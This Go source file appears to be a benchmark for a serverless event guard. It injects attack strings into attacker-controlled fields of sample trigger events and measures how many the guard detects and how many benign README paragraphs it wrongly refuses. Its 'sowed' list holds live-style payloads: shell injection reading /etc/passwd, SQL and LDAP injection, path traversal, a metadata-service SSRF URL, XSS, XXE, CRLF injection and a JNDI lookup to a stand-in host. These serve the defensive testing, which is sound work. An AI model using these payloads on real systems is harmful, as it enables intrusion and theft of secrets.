package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"

	"redoubt/guard/event"
	"redoubt/policy"
	"redoubt/policy/compile"
	"redoubt/trigger"
)

// A plant is a text of a sample event that somebody outside chooses: there an attack
// is put.
type plant struct {
	sample trigger.Sample
	path   []string
	base64 bool
	arn    string // what stands before it
}

// event is the sample with a text in the plant's place: of an ARN it is the end, which
// is all that a caller writes.
func (p plant) event(text string) ([]byte, error) {
	if p.base64 {
		text = base64.StdEncoding.EncodeToString([]byte(text))
	}
	if p.arn != "" {
		text = p.arn + "/" + text
	}
	var all any
	if err := json.Unmarshal(p.sample.Event, &all); err != nil {
		return nil, fmt.Errorf("reading the sample %s: %w", p.sample.Name, err)
	}
	replace(&all, p.path, text)
	return json.Marshal(all)
}

// replace puts a text where a path leads.
func replace(at *any, path []string, text string) {
	if len(path) == 0 {
		*at = text
		return
	}
	switch v := (*at).(type) {
	case map[string]any:
		next := v[path[0]]
		replace(&next, path[1:], text)
		v[path[0]] = next
	case []any:
		if n, err := strconv.Atoi(path[0]); err == nil && n < len(v) {
			replace(&v[n], path[1:], text)
		}
	}
}

// plants are those of all samples of a kind.
func plants(k trigger.Kind) []plant {
	var list []plant
	for _, s := range k.Samples() {
		var all any
		if json.Unmarshal(s.Event, &all) != nil {
			continue
		}
		g := gardener{sample: s}
		if top, ok := all.(map[string]any); ok {
			g.encoded, _ = top["isBase64Encoded"].(bool)
		}
		g.walk(all, []*trigger.Field{k.Root}, nil)
		list = append(list, g.plants...)
	}
	return list
}

// gardener looks for the plants of a sample.
type gardener struct {
	sample  trigger.Sample
	encoded bool // the body is base64
	plants  []plant
}

// walk goes over a value and the shapes that it may have.
func (g *gardener) walk(at any, shapes []*trigger.Field, path []string) {
	shapes = trigger.Alternatives(shapes)
	switch v := at.(type) {
	case map[string]any:
		for _, name := range slices.Sorted(maps.Keys(v)) {
			g.walk(v[name], trigger.Children(shapes, name), append(slices.Clone(path), name))
		}
	case []any:
		for n, element := range v {
			g.walk(element, trigger.Children(shapes, "*"), append(slices.Clone(path), strconv.Itoa(n)))
		}
	case string:
		for _, f := range shapes {
			if f.Writer == trigger.Attacker {
				coded := f.Type == trigger.Base64 || g.encoded && len(path) == 1 && path[0] == "body"
				p := plant{sample: g.sample, path: path, base64: coded}
				if strings.HasPrefix(v, "arn:") {
					p.arn = v
				}
				g.plants = append(g.plants, p)
				return
			}
		}
	}
}

// garden has the plants of all kinds that have some, and a guard with the policy that
// stands for none, enforced.
type garden struct {
	kinds  []string
	plants map[string][]plant
	guard  *event.Guard
	next   int
}

func newGarden() (*garden, error) {
	f, _ := policy.Default().Of("bench")
	f.Mode = policy.Enforce
	compiled, err := compile.Function(f)
	if err != nil {
		return nil, err
	}
	g := &garden{plants: map[string][]plant{}}
	if g.guard, err = event.New(compiled, event.World{}); err != nil {
		return nil, err
	}
	for _, k := range trigger.All() {
		if list := plants(k); len(list) > 0 {
			g.kinds = append(g.kinds, string(k.Name))
			g.plants[string(k.Name)] = list
		}
	}
	return g, nil
}

// found puts a text into the next kind's next plant and reports whether an attack is
// seen there.
func (g *garden) found(text string) bool {
	n := g.next
	g.next++
	list := g.plants[g.kinds[n%len(g.kinds)]]
	return g.foundIn(list[n/len(g.kinds)%len(list)], text)
}

func (g *garden) foundIn(p plant, text string) bool {
	whole, err := p.event(text)
	if err != nil {
		return false
	}
	d := g.guard.Decide(context.Background(), event.Invocation{Event: whole})
	return slices.ContainsFunc(d.Reasons, func(r event.Reason) bool { return r.Control == policy.Inspection })
}

// sowed are attacks of all classes, which every text of every kind of event must not
// carry.
var sowed = []string{
	"x; cat /etc/passwd", "' OR '1'='1' --", "../../../../etc/shadow", "http://169.254.169.254/latest/meta-data/", "{{config.__class__.__init__.__globals__}}",
	"<script>alert(1)</script>", "${jndi:ldap://evil/a}", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, "*)(uid=*))(|(uid=*", "x\r\nSet-Cookie: a=b",
}

// detection puts an attack of each class into each text that somebody outside chooses,
// for all kinds of trigger.
func detection() []row {
	const what, target = "guard: attacks refused, in each attacker's text of each kind's samples", "all"
	g, err := newGarden()
	if err != nil {
		return []row{skipped(what, target, err.Error())}
	}
	found, all := 0, 0
	var missed []string
	for _, kind := range g.kinds {
		for _, p := range g.plants[kind] {
			for _, attack := range sowed {
				all++
				if g.foundIn(p, attack) {
					found++
				} else if at := p.sample.Name + ": " + trigger.Spell(p.path); !slices.Contains(missed, at) {
					missed = append(missed, at)
				}
			}
		}
	}
	note := fmt.Sprintf("%d kinds", len(g.kinds))
	if len(missed) > 0 {
		note += fmt.Sprintf("; missed in %d places: %s", len(missed), strings.Join(missed[:min(len(missed), 5)], ", "))
	}
	rows := []row{atMost(row{what: what, figure: fmt.Sprintf("%d of %d", found, all), target: target, note: note}, float64(all-found), 0)}
	return append(rows, g.samples())
}

// samples must pass as they are.
func (g *garden) samples() row {
	refused, all := 0, 0
	for _, k := range trigger.All() {
		for _, s := range k.Samples() {
			all++
			if d := g.guard.Decide(context.Background(), event.Invocation{Event: s.Event}); d.Verdict != event.Allow {
				refused++
			}
		}
	}
	return atMost(row{what: "guard: sample events refused", figure: fmt.Sprintf("%d of %d", refused, all), target: "none"}, float64(refused), 0)
}

// benign puts paragraphs of public documents into the events of all kinds in turn: prose,
// code and mark-up that nobody attacks with.
func benign(corpora string) row {
	const what, target = "guard: paragraphs of READMEs refused, in events of all kinds in turn", "≤ 3 %"
	files, _ := filepath.Glob(filepath.Join(corpus(corpora, patterns), "*", "README.md"))
	if len(files) == 0 {
		return skipped(what, target, why(nil))
	}
	g, err := newGarden()
	if err != nil {
		return skipped(what, target, err.Error())
	}
	var refused count
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			continue
		}
		for p := range strings.SplitSeq(string(data), "\n\n") {
			refused.all++
			if g.found(p) {
				refused.found++
			}
		}
	}
	r := row{what: what, figure: fmt.Sprintf("%.1f %% of %d", refused.share(), refused.all), target: target}
	return atMost(r, refused.share(), 3)
}
